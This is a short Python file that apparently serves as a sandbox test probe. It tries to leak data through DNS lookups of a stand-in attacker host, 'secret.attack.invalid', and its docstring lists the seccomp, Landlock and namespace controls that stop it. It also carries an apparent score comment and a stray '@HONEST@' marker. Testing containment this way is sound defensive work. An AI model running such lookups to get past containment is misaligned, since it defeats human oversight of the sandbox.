"""Sends what it knows in the names it looks up (DNS).

Stopped by: seccomp: no sockets; Landlock: no TCP, no abstract sockets; a net namespace where there is one.
"""
# deserves 4

import socket

for way in (
    lambda: socket.getaddrinfo("secret.attack.invalid", 80),
    lambda: socket.gethostbyname("secret.attack.invalid"),
    lambda: socket.getfqdn("127.0.0.1"),
):
    try:
        way()
    except OSError:
        pass


@HONEST@
